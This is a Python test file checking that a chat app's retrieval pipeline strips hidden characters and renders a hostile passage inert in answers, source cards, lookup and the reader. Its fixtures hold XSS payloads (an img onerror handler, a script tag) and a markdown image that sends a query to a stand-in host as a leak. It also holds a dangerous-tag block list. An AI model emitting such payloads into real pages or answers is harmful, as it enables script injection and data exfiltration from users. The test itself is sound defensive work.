"""Scenario 2: a passage with markup, an external markdown image and hidden characters is cleaned
at ingestion (hidden characters gone) and shown inert everywhere the chat shows passages: the
answer, the source cards, the citation lookup and the reader. Here: ingestion -> index ->
pipeline -> the UI callbacks' HTML. The real-browser check (no dialog, no request) is the UI's
e2e test `test_hostile_passage_renders_inert`."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from corpus.load import load_passages
from lookup.library import get_library
from rag.generators.fake import FakeGenerator
from ui import callbacks

HIDDEN = "\u200b\u202e\u202c\u00ad"
DANGEROUS_TAGS = {"script", "img", "iframe", "object", "embed", "svg", "math", "base", "form"}


class _Audit(HTMLParser):
    """Collects every element and attribute an HTML fragment would create in a browser."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((k.lower(), (v or "").strip().lower()) for k, v in attrs)

    def handle_data(self, data):
        self.text.append(data)


def audit(html: str) -> _Audit:
    a = _Audit()
    a.feed(html)
    a.close()
    bad_tags = DANGEROUS_TAGS & set(a.tags)
    assert not bad_tags, bad_tags
    for name, value in a.attrs:
        assert not name.startswith("on"), (name, value)
        if name in ("src", "href", "srcset", "action", "formaction", "xlink:href", "poster"):
            assert not value.startswith(("http:", "https:", "//", "javascript:", "data:")), value
        assert "example.invalid" not in value
    return a


@pytest.fixture
def hostile(tmp_path, fake_emb, pipeline_factory, hostile_text):
    s, index = pipeline_factory(tmp_path, hostile_text, fake_emb)
    return s, index


def test_hidden_characters_stripped_at_ingestion(hostile):
    s, index = hostile
    passages = load_passages(s)
    hit = [p for p in passages if "markup" in p.text]
    assert len(hit) == 1
    text = hit[0].text
    assert not any(c in text for c in HIDDEN)
    assert "The bureaucracy hid its privileges behind" in text
    # ... and so in every chunk the index holds.
    assert not any(c in ch.text or c in ch.header for ch in index.chunks for c in HIDDEN)


def test_hostile_passage_inert_in_answer_and_source_cards(hostile, fake_emb, answer_fn_factory):
    s, index = hostile
    # The model repeats the markup too: model output is as untrusted as passages.
    gen = FakeGenerator(
        "The bureaucracy hid its privileges behind <img src=x onerror=alert(1)> and "
        "<script>alert(2)</script> and ![x](http://example.invalid/?q=leak) markup. [1]"
    )
    views = list(
        callbacks.respond(
            "What did the bureaucracy hide its privileges behind?",
            (),
            answer_fn=answer_fn_factory(index, fake_emb, gen),
            settings=s,
        )
    )
    final = views[-1]
    answer = final.turns[-1].answer
    assert answer is not None and answer.citations
    cited = [c for c in answer.citations if "markup" in c.excerpt]
    assert cited, "the hostile passage should be among the cited sources"
    for view in views:
        audit(view.chat_html)
        audit(view.sources_html)
    # Shown as text, not dropped silently: the reader sees what the passage says.
    shown = "".join(audit(final.sources_html).text)
    assert "<img src=x onerror=alert(1)>" in shown


@pytest.mark.parametrize("how", ["phrase", "keyword", "auto"])
def test_hostile_passage_inert_in_lookup(hostile, how):
    s, _ = hostile
    library = get_library(s)
    response, html = callbacks.lookup("bureaucracy hid its privileges", how, library=library)
    assert response.results
    a = audit(html)
    assert "<script>alert(2)</script>" in "".join(a.text)


def test_hostile_passage_inert_in_reader(hostile):
    s, _ = hostile
    library = get_library(s)
    html, _page, _label = callbacks.read_work("sample-bureaucracy", 0, library=library, per_page=50)
    a = audit(html)
    assert "onerror=alert(1)" in "".join(a.text)


def test_audit_would_catch_live_markup():
    """The checker itself can fail."""
    with pytest.raises(AssertionError):
        audit('<p>ok <img src="x" onerror="alert(1)"></p>')
    with pytest.raises(AssertionError):
        audit('<a href="http://example.invalid/">x</a>')
